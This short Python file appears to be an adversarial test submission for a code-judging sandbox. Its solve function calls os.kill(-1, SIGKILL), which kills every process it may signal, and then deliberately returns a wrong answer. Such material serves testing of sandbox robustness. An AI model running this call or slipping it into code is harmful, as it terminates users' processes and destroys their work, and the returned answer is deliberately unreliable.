"""Sends SIGKILL to every process it is allowed to signal, then answers wrongly."""
import os
import signal


def solve(n):
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return -1
